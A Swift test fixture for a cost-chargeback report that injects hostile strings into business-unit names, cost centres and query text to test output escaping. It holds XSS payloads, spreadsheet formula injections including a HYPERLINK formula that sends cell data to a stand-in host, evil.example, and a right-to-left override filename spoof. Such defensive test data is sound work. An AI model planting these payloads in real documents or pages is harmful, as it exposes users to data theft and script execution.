import ChargebackModel
import Foundation

/// The fixture with hostile text in every name a configuration or AWS hands us: markup, quotes,
/// spreadsheet formulas, separators, control characters, right-to-left and other non-ASCII text.
enum InjectionCorpus {
    static let script = "<script>alert('x')</script>"
    static let strings = [
        script, "\"quoted\" & 'single'", "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")", "+SUM(1,2)", "-2+3",
        "@SUM(A1:A9)", "\ttabbed", "comma, separated", "two\nlines", "\rcarriage", "\u{202E}gnp.exe\u{202C} عربي עברית",
        "Zürich 東京 ✓", "</td></tr></table><img src=x onerror=alert(1)>", "{{name}}",
    ]

    static func report() -> ChargebackReport {
        var report = ReportFixture.report()
        var units = report.businessUnits
        units[0].name = strings[0] + " " + strings[10]
        units[0].costCenter = strings[2]
        units[0].workgroups[1].name = strings[3]
        units[0].workgroups[1].flags.append(strings[12])
        units[0].lines[1].item = "us-east-1/" + strings[3]
        units[0].lines[2].basis = strings[4]
        units[0].lines[0].basis = "a line break\nand nothing else to quote"
        units[0].topQueries[0].queryText = strings[0] + " " + strings[1]
        units[0].topQueries[1].database = strings[5]
        units[1].name = strings[7] + " " + strings[8]
        units[1].costCenter = strings[6]
        units[1].error = strings[12]
        units[2].name = strings[9] + " " + strings[11]
        units[2].costCenter = strings[5]
        units[2].error = strings[13]
        report.businessUnits = units
        report.central.categories[0].usageTypes[0].usageType = strings[4]
        report.central.categories[1].usageTypes[0].usageType = strings[5]
        report.central.categories[3].allocation.centralReason = strings[1]
        report.dataQuality.append(DataQualityNote(kind: .historyGap, businessUnitId: nil, message: strings.joined(separator: " | ")))
        return report
    }
}
